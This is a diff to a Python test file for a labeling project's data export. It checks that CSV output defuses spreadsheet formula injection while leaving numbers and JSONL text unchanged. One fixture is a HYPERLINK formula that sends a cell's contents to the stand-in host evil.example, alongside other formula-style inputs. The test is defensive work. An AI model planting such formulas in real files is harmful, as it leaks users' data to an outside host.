@@ -169,7 +169,7 @@ async def test_jsonl_has_every_field_of_every_submission(db):
 async def test_csv_flattens_answer_fields_into_columns(db):
     project, people, subs, ids = await pairwise_data(db)
     data, result = await export(db, project, "csv")
-    assert data.decode("utf-8").startswith("submission_id,external_id,task_type,prompt,")
+    assert data.decode("utf-8").startswith('"submission_id","external_id","task_type","prompt",')
     rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
     assert result.records == len(rows) == 5
     answer_cols = [c for c in rows[0] if c.startswith("answer.")]
@@ -191,6 +191,32 @@ async def test_csv_flattens_answer_fields_into_columns(db):
         assert row["late"] == "false" and row["context"] == ""
         assert row["submitted_at"] == at.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
     assert_private(data)
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Sources")'
+
+
+async def test_csv_neutralizes_formulas_in_people_text_and_keeps_numbers(db, database_url, tmp_path):
+    """Issue 15.8: an answer starting with `=`, `+`, `-` or `@` is text in a spreadsheet, in the file the bot sends
+    and in the one the command line writes; ids, seconds and gold scores stay bare numbers."""
+    project = await seed_project(db, "pairwise_law")
+    people = await add_people(db)
+    hostile = [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]  # one per (task, person): 2 tasks, 3 people
+    slots = [(ext, who) for ext in ("law-pair-001", "law-pair-002") for who in ("ana", "bo", "cy")]
+    ids = [await submit(db, project, ext, people[who], PairwiseAnswer(preference="a_better", justification=j),
+                        gold_score=-0.5) for (ext, who), j in zip(slots, hostile)]
+    expected = ["'" + HOSTILE, "'+1+1", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1"]
+    data, _ = await export(db, project, "csv")
+    proc = run_cli(database_url, project.name, "--format", "csv", "--out", str(tmp_path / "o.csv"))
+    assert proc.returncode == 0, proc.stderr
+    for raw in (data, (tmp_path / "o.csv").read_bytes()):
+        got = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
+        assert [r["answer.justification"] for r in got] == expected
+        assert [r["submission_id"] for r in got] == [str(i) for i in ids]
+        assert {r["gold_score"] for r in got} == {"-0.5"}  # a number the project wrote: no quote
+        assert raw.decode("utf-8").count(",-0.5,") == len(hostile)  # written bare, not "'-0.5"
+    jsonl_data, _ = await export(db, project, "jsonl")  # other formats keep the text exactly
+    assert [r["answer"]["justification"] for r in lines(jsonl_data)] == hostile
 
 
 async def test_csv_columns_for_every_other_task_type(db):
@@ -221,7 +247,7 @@ async def test_csv_columns_for_every_other_task_type(db):
     assert row["answer.no_issues"] == "false" and row["answer.no_issues_reason"] == ""
     (row,) = csv.DictReader(io.StringIO((await export(db, labeling, "csv"))[0].decode()))
     assert json.loads(row["answer.labels"]) == ["card_fraud", "fees"]
-    assert row["answer.comment"] == "=SUM(A1)"  # written as it was given, not altered
+    assert row["answer.comment"] == "'=SUM(A1)"  # text in a spreadsheet, never a formula (issue 15.8)
 
 
 # ---------------------------------------------------------------- dpo and sft
